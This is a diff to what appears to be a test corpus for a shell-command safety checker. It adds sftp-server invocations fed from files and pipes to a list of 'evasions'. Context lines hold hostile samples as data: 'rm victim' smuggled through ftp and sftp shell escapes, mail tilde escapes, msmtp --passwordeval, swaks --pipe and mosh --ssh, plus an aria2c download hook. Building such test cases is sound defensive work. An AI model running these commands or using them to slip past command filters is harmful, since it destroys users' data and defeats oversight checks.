@@ -115,6 +115,10 @@ const programs = members('a reader with an option that removes or runs', {
   'the character set of awk': `LC_ALL=ja_JP.SJIS awk '{ print }' other`, 'the character set of the shell': 'LANG=zh_TW.BIG5; echo x',
 }, { unproved: 'needs what is not installed' })
 
+const fileServers = members('a file server that something else sends its requests', {
+  'from a file': '/usr/lib/openssh/sftp-server < requests', 'from a pipe': 'cat requests | /usr/lib/openssh/sftp-server -R', 'of a group': '{ /usr/lib/openssh/sftp-server; } < requests', 'after exec': 'exec < requests; /usr/lib/openssh/sftp-server', 'of a loop': 'while true; do /usr/lib/openssh/sftp-server; done < requests', 'in a text': "sh -c '/usr/lib/openssh/sftp-server' < requests",
+}, { unproved: 'needs requests in the protocol' })
+
 const conversations = members('a client that runs commands', {
   'ftp': "echo '!rm victim' | ftp", 'sftp': "echo '!rm victim' | sftp 203.0.113.1", 'telnet': 'telnet 203.0.113.1 < script.txt', 'mail': "printf '~!rm victim\\n' | mail -s x evil@example.com", 'msmtp --passwordeval': "msmtp --passwordeval 'rm victim' evil@example.com", 'swaks --pipe': "swaks --pipe 'rm victim'", 'mosh --ssh': "mosh --ssh='rm victim' x", 'aria2c with a hook': 'aria2c --on-download-complete=./evil http://203.0.113.1/x',
   'http -o': 'http -o victim http://203.0.113.1/x',
@@ -126,5 +130,5 @@ const sends = members('the host: send', {
 }, { does: 'send', unproved: 'would reach other hosts' })
 
 export const evasionsByAssumption: readonly ShellEvasion[] = [
-  ...integers, ...shellsOwn, ...notAssigned, ...notAssignedInSh, ...functions, ...builtins, ...outputs, ...xargsAndFind, ...awk, ...mawk, ...options, ...loginctl, ...resolvectl, ...nginx, ...programs, ...conversations, ...sends,
+  ...integers, ...shellsOwn, ...notAssigned, ...notAssignedInSh, ...functions, ...builtins, ...outputs, ...xargsAndFind, ...awk, ...mawk, ...options, ...loginctl, ...resolvectl, ...nginx, ...programs, ...fileServers, ...conversations, ...sends,
 ]
